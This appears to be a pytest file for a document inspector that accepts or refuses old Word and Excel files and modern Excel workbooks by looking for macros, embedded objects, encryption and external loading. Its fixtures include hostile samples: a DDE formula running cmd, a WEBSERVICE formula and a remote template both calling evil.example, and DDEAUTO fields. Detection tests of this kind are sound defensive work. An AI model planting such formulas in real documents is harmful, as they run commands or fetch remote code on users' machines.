"""Word and Excel documents from before 2007, and Excel since: taken, or refused for what runs, loads or is hidden."""

import pytest

from register import compound_file, inspector
from register.active_content import ContentFault, ContentRefused
from register.media import NotTaken, recognised
from tests.register import papers
from tests.register.papers import compound, excel, relation

TEXT = b"\xec\xa5\xc1\0" + b"\0" * 28 + b"Music until two. \x13 PAGE \x14 1\x15"
BOOK = b"\x09\x08\x10\0" + b"\0" * 16 + b"\x85\0\x08\0" + b"\0" * 8
TAKEN, PROGRAM, EMBEDDED, LOADS, LOCKED, DAMAGED = (
    inspector.TAKEN, *(fault.value for fault in (
        ContentFault.PROGRAM, ContentFault.EMBEDDED, ContentFault.LOADS, ContentFault.LOCKED, ContentFault.DAMAGED,
    )),
)  # fmt: skip


def field(code: str, wide: bool = False) -> bytes:
    words = f"\x13 {code} \x14x\x15"
    return TEXT + (b"\0" * (len(TEXT) % 2) + words.encode("utf-16-le") if wide else words.encode("cp1252"))


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (compound(WordDocument=TEXT), TAKEN),
        (compound(WordDocument=field("HYPERLINK")), TAKEN),
        (compound(WordDocument=TEXT, Macros__VBA__dir=b"x", Macros__VBA__ThisDocument=b"x"), PROGRAM),
        (compound(WordDocument=TEXT, VBA__dir=b"x"), PROGRAM),
        (compound(WordDocument=field("macrobutton")), PROGRAM),
        (compound(WordDocument=field("DDEAUTO")), LOADS),
        (compound(WordDocument=field("IncludeText", wide=True)), LOADS),
        (compound(WordDocument=TEXT, ObjectPool___1234__Ole10Native=b"x"), EMBEDDED),
        (compound(WordDocument=TEXT, EncryptedPackage=b"x"), LOCKED),
        (compound(WordDocument=TEXT[:11] + b"\1" + TEXT[12:]), LOCKED),
        (compound(WordDocument=TEXT, **{"1Table": "https://evil.example/a.dotm".encode("utf-16-le")}), LOADS),
        (compound(Workbook=BOOK), ContentFault.ANOTHER.value),
        (compound(WordDocument=TEXT)[:700], DAMAGED),
    ],
)
def test_an_old_word_document_is_looked_through(content: bytes, found: str) -> None:
    assert inspector.found("old word", content) == found


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (compound(Workbook=BOOK), TAKEN),
        (compound(Book=BOOK), TAKEN),
        (compound(Workbook=BOOK, _VBA_PROJECT_CUR__VBA__dir=b"x"), PROGRAM),
        (compound(Workbook=BOOK[:-3] + b"\1" + BOOK[-2:]), PROGRAM),
        (compound(Workbook=BOOK, MBD0001A2B3__Workbook=b"x"), EMBEDDED),
        (compound(Workbook=BOOK[:20] + b"\x2f\0\x02\0\0\0" + BOOK[20:]), LOCKED),
        (compound(Workbook=BOOK[:20] + b"\xae\x01\x09\0\0\0\x05\0\0cmd\x03" + BOOK[20:]), LOADS),
        (compound(WordDocument=TEXT), ContentFault.ANOTHER.value),
    ],
)
def test_an_old_excel_workbook_is_looked_through(content: bytes, found: str) -> None:
    assert inspector.found("old excel", content) == found


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (excel(), TAKEN),
        (excel(relation("vbaProject", "vbaProject.bin", external=False)), PROGRAM),
        (excel(relation("xlMacrosheet", "macrosheets/sheet1.xml", external=False)), PROGRAM),
        (excel(relation("connections", "connections.xml", external=False)), LOADS),
        (excel(relation("externalLink", "externalLinks/externalLink1.xml", external=False)), EMBEDDED),
        (excel(**{"xl/worksheets/sheet1.xml": b'<w><f>WEBSERVICE("https://evil.example")</f></w>'}), LOADS),
        (excel(**{"xl/worksheets/sheet1.xml": b"<w><f>cmd|'/c calc'!A0</f></w>"}), LOADS),
        (excel(**{"xl/worksheets/sheet1.xml": b"<w><f>SUM(A1:A3)</f></w>"}), TAKEN),
        (papers.word(), ContentFault.ANOTHER.value),
    ],
)
def test_an_excel_workbook_is_looked_through(content: bytes, found: str) -> None:
    assert inspector.found("excel", content) == found


@pytest.mark.parametrize("step", [1, 7])
def test_a_compound_file_cut_or_changed_anywhere_is_read_or_refused_and_never_runs_in_circles(step: int) -> None:
    whole = compound(WordDocument=TEXT, Macros__VBA__dir=b"x")
    for at in range(0, 1600, step * 13):
        for changed in (whole[:at], whole[:at] + bytes([whole[at] ^ 0x5A]) + whole[at + 1 :]):
            try:
                compound_file.CompoundFile(changed)
            except ContentRefused:
                continue


def test_what_they_are_is_known_by_their_content_and_the_person_is_told_what_to_do() -> None:
    assert recognised(compound(WordDocument=TEXT), "Letter.DOC").type == "application/msword"
    assert recognised(compound(Workbook=BOOK), "diary.xls").type == "application/vnd.ms-excel"
    assert recognised(excel(), "diary.xlsx").words == "an Excel workbook"
    with pytest.raises(NotTaken, match="has macros or other programs in it"):
        recognised(compound(WordDocument=TEXT, Macros__VBA__dir=b"x"), "Letter.doc")
    with pytest.raises(NotTaken, match=r"is an old Word document inside; give its name the ending \.doc"):
        recognised(compound(WordDocument=TEXT), "Letter.docx")
